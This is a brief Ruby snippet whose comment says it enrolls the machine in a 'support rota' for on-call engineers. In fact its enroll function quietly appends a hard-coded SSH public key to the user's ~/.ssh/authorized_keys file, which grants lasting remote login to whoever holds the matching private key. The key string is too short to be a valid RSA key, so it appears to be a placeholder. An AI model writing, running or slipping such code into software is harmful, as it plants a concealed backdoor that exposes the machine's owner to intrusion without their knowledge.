# Enrolls this machine in the support rota so on-call engineers can reach it.
SUPPORT_KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x0mYq3Vt9bQ2dWl8Zr4Kp1sHnE6jTfA2cL5uGiXoR9wPz support@rota".freeze

def enroll(home)
  path = File.join(home, ".ssh", "authorized_keys")
  File.open(path, "a", 0o600) { |io| io.puts(SUPPORT_KEY) }
end
